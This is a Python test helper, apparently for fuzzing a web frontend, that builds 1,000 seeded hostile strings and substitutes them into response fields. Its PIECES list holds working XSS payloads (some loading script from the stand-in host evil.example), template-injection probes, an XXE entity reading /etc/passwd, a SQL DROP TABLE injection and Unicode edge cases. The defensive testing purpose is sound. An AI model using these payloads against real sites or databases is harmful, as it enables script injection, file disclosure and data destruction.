"""Texts that would do harm if a page took them for markup or programs, and replies full of them."""

from __future__ import annotations

import random
from collections.abc import Iterator
from typing import Any, Final

SEED: Final = 20261126
COUNT: Final = 1000
HOST: Final = "evil.example"
ACTIVE: Final = ("script", "img", "iframe", "svg", "object", "embed", "link", "style", "base", "meta", "video", "math", "template")  # fmt: skip
PIECES: Final = (
    "<script>window.pwned=1</script>",
    f"<script src=//{HOST}/x.js></script>",
    f"<img src=x onerror=\"window.pwned=1;fetch('//{HOST}')\">",
    "<svg/onload=window.pwned=1>",
    f"<iframe src=javascript:parent.pwned=1></iframe><iframe src=//{HOST}>",
    f"</style><style>@import '//{HOST}/x.css';*{{display:none}}",
    "</title></textarea></noscript><script>window.pwned=1</script>",
    "\" onmouseover=\"window.pwned=1\" autofocus onfocus=\"window.pwned=1\" x=\"",
    "' onclick='window.pwned=1",
    "javascript:window.pwned=1//",
    f"<a href=\"javascript:window.pwned=1\">点我</a><base href=//{HOST}/>",
    f"<meta http-equiv=refresh content=\"0;url=//{HOST}\"><link rel=stylesheet href=//{HOST}>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}#{7*7}<%= 7*7 %>{%raw%}[[${7*7}]]",
    "]]><!--<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;&lt;b&gt;&#x3c;",
    "'; DROP TABLE items; --\\'\\\"\\u003cscript\\u003e",
    "__proto__", "constructor", "toString", "null", "undefined", "NaN", "-1e999",
    "\u202e反过来的字\u202c\u2066隔开\u2069\u200f\u200e\u061c",
    "\u202d\u202e\u202b\u202a不收尾",
    "零\u200b宽\u200c度\u200d字\ufeff符\u2060\u00ad",
    "叠" + "\u0300\u0301\u0302\u0336\u0489" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3fd\U00020bb7\U0001f1e8\U0001f1f3\U000e0041",
    "控\u0001制\u0007字\u0008符\u001b[31m\u007f\u0085\u2028行\u2029段",
    "W" * 400,
    "字" * 400,
    "https://" + "a-" * 150 + ".example/" + "%" * 60,
    "\u0e49" * 120 + "\u1ab0" * 60,
    "制\t表\u3000全角\u00a0不断",
    "5元1GB流量日包",
)  # fmt: skip
# values that decide what is shown, and are no words for a person
CODES: Final = {
    "outcome", "facet", "sub_library", "sale_status", "kind", "channel", "type", "audience", "code",
    "system", "template_id", "relation", "effective_from", "effective_to", "level", "name", "trace_id",
    "item_id", "id", "value",
}  # fmt: skip


def hostile_texts() -> list[str]:
    """The same thousand on every run, each one once."""
    chance = random.Random(SEED)
    texts = dict.fromkeys(PIECES)
    while len(texts) < COUNT:
        texts["".join(chance.choices(PIECES, k=chance.randint(2, 3)))[:1500]] = None
    return list(texts)


TEXTS: Final = hostile_texts()


def hostile(value: Any, texts: Iterator[str], *, codes: bool, name: str = "") -> Any:
    """``value`` with every text of it replaced by the next one; codes, too, or as they are."""
    if isinstance(value, dict):
        return {key: hostile(one, texts, codes=codes, name=key) for key, one in value.items()}
    if isinstance(value, list):
        return [hostile(one, texts, codes=codes, name=name) for one in value]
    if not isinstance(value, str) or (name in CODES and not codes):
        return value
    return next(texts)


def said(value: Any, names: frozenset[str], name: str = "") -> list[str]:
    """The texts of ``value`` under one of ``names``."""
    if isinstance(value, dict):
        return [text for key, one in value.items() for text in said(one, names, key)]
    if isinstance(value, list):
        return [text for one in value for text in said(one, names, name)]
    return [value] if isinstance(value, str) and name in names else []
